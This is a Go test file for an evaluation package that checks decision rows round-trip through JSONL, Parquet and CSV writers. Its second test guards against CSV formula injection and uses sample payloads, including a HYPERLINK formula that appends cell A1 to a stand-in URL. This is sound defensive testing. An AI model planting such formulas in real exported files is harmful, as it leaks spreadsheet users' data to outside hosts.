package evaluation

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/parquet-go/parquet-go"

	"peerd.dev/node/decision"
)

// TestRowsHaveOpenBanditsNames: in both forms, with the same values.
func TestRowsHaveOpenBanditsNames(t *testing.T) {
	rows := []decision.Row{
		{ID: "a", Time: time.UnixMilli(1e12).UTC(), Action: 2, Name: "blue", Reward: .5, Reported: true, PScore: .25, Context: []float64{1, -2}, Features: []float64{.5}, Offered: []string{"red", "blue, \"dark\""}, Actions: [][]float64{{1, 2}, {.5, 1e-9}}, Source: decision.Learned, Model: "1-2-3", Counted: true},
		{ID: "b", Time: time.UnixMilli(2e12).UTC(), Name: "red", Context: []float64{}, Features: []float64{}, Offered: []string{}, Actions: [][]float64{}, Source: decision.Application, Model: "1-2-3", Proposed: "blue", PeerPScore: .125, LateBy: 90, Kept: true},
	}
	var text, table, cells bytes.Buffer
	for _, w := range []RowWriter{RowsJSONL(&text), RowsParquet(&table), RowsCSV(&cells)} {
		for _, r := range rows {
			if err := w.Write(r); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
	}
	var header []string
	for _, c := range parquet.SchemaOf(decision.Row{}).Fields() {
		header = append(header, c.Name())
	}
	d := json.NewDecoder(&text)
	for i := range rows {
		var named map[string]any
		var got decision.Row
		var raw json.RawMessage
		if err := d.Decode(&raw); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(raw, &named); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(raw, &got); err != nil || !reflect.DeepEqual(got, rows[i]) {
			t.Errorf("line %d: %+v, want %+v (%v)", i, got, rows[i], err)
		}
		for _, name := range []string{"action", "position", "reward", "pscore", "context", "action_context"} {
			if _, ok := named[name]; !ok || !slices.Contains(header, name) {
				t.Errorf("no %s in %v or %v", name, named, header)
			}
		}
	}
	got, err := parquet.Read[decision.Row](bytes.NewReader(table.Bytes()), int64(table.Len()))
	if err != nil || len(got) != len(rows) {
		t.Fatalf("%d rows (%v)", len(got), err)
	}
	for i := range got {
		got[i].Time = got[i].Time.UTC()
		for _, x := range []*[]float64{&got[i].Context, &got[i].Features} {
			*x = append([]float64{}, *x...)
		}
		got[i].Offered, got[i].Actions = append([]string{}, got[i].Offered...), append([][]float64{}, got[i].Actions...)
		if !reflect.DeepEqual(got[i], rows[i]) {
			t.Errorf("row %d: %+v, want %+v", i, got[i], rows[i])
		}
	}
	lines, err := csv.NewReader(&cells).ReadAll()
	if err != nil || len(lines) != len(rows)+1 || !slices.Equal(lines[0], header) {
		t.Fatalf("%q (%v)", lines, err)
	}
	want := []string{"a", "2001-09-09T01:46:40Z", "2", "blue", "0", "0.5", "true", "0.25", "[1,-2]", "[0.5]", `["red","blue, \"dark\""]`, "[[1,2],[0.5,1e-9]]", "learned", "1-2-3", "true", "", "0", "0", "false"}
	if !slices.Equal(lines[1], want) || lines[2][10] != "[]" || lines[2][15] != "blue" || lines[2][18] != "true" {
		t.Errorf("%q, want %q", lines[1:], want)
	}
}

// TestCellsAreNoFormulas: a spreadsheet takes no text of a table for one, and the text can be had back; numbers, and the other forms, are exact.
func TestCellsAreNoFormulas(t *testing.T) {
	for _, name := range []string{"=HYPERLINK(\"http://x.example/?\"&A1,\"red\")", "+1+1", "@SUM(1)", "-2", "\t=1", "\r=1", "\n=1", "＝1", "－1", "'=1", "red", "a=1", "2"} {
		row := decision.Row{ID: "-1", Name: name, Reward: -.5, Offered: []string{name}, Proposed: name}
		var cells, text bytes.Buffer
		for _, w := range []RowWriter{RowsCSV(&cells), RowsJSONL(&text)} {
			if err := w.Write(row); err != nil {
				t.Fatal(err)
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
		}
		lines, err := csv.NewReader(&cells).ReadAll()
		if err != nil || len(lines) != 2 {
			t.Fatalf("%q (%v)", lines, err)
		}
		of := make(map[string]string)
		for i, column := range lines[0] {
			cell := lines[1][i]
			of[column] = cell
			if _, err := strconv.ParseFloat(cell, 64); strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 && (err != nil || column != "reward") {
				t.Errorf("%s is the formula %q", column, cell)
			}
		}
		want := name
		if name != "red" && name != "a=1" && name != "2" {
			want = "'" + name
		}
		if want = strings.ReplaceAll(want, "\r\n", "\n"); of["name"] != want || of["proposed"] != want || of["reward"] != "-0.5" || of["id"] != "'-1" || of["offered"][0] != '[' {
			t.Errorf("%q is written as %q", name, of)
		}
		var back decision.Row
		if err := json.Unmarshal(text.Bytes(), &back); err != nil || back.Name != name {
			t.Errorf("%q is written as %q (%v)", name, back.Name, err)
		}
	}
}
